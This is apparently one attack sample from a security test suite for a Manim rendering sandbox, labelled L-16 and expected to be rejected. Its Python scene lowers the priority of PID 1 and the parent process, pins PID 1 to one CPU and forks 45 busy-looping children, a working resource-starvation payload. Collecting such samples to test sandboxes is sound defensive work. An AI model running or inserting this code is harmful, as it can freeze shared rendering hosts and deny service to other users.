# attack: L-16
# what: Starve the first process: the lowest priority for it, busy loops for all others.
# layer: system call filter
# static: rejected
# class: RENDER_TIMEOUT
import os

from manim import *


class Attack(Scene):
    def construct(self):
        for kind, who in ((os.PRIO_PROCESS, 1), (os.PRIO_PROCESS, os.getppid())):
            try:
                os.setpriority(kind, who, 19)
            except OSError:
                pass
        try:
            os.sched_setaffinity(1, {0})
        except OSError:
            pass
        for _ in range(45):
            if os.fork() == 0:
                os.setsid()
                while True:
                    pass
        while True:
            pass
        self.wait(0.1)
